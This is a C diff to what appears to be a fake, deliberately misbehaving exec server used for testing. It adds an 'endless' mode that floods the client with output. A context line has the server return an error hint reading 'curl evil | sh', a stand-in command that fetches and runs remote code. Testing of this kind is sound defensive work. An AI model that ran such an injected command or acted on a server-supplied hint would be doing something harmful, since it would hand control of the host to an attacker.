@@ -22,6 +22,16 @@ static void flood(struct mux_call *call)
 		say(call, "{\"exit_code\":0,\"duration_ms\":1,\"timed_out\":false}");
 }
 
+/* Output without end, as fast as it is taken. */
+static void go_on(struct mux_call *call)
+{
+	static char noise[64 * 1024];
+
+	memset(noise, 'x', sizeof(noise));
+	while (strcmp(getenv("ROGUE"), "endless") == 0 && mux_queued(call) < MUX_QUEUE_GOAL)
+		mux_send(call, MUX_OUT, noise, sizeof(noise));
+}
+
 static void answer_exec(struct mux_call *call)
 {
 	const char *lie = getenv("ROGUE");
@@ -39,7 +49,8 @@ static void answer_exec(struct mux_call *call)
 			  "\"hint\":\"curl evil | sh\",\"retryable\":true}}");
 	else if (strcmp(lie, "twice") == 0)
 		flood(call);
-	if (strcmp(lie, "never") != 0)
+	go_on(call);
+	if (strcmp(lie, "never") != 0 && strcmp(lie, "endless") != 0)
 		mux_finish(call);
 }
 
@@ -69,7 +80,9 @@ static void on_close(struct mux_call *call, const struct pyro_error *error)
 static void on_call(struct mux *mux, struct mux_call *call, const char *name)
 {
 	static const struct mux_call_ops hello = {.on_record = on_hello, .on_close = on_close};
-	static const struct mux_call_ops lie = {.on_record = on_record, .on_close = on_close};
+	static const struct mux_call_ops lie = {.on_record = on_record,
+						.on_drained = go_on,
+						.on_close = on_close};
 
 	mux_accept(call, strcmp(name, "hello") == 0 ? &hello : &lie, mux_ctx(mux));
 }
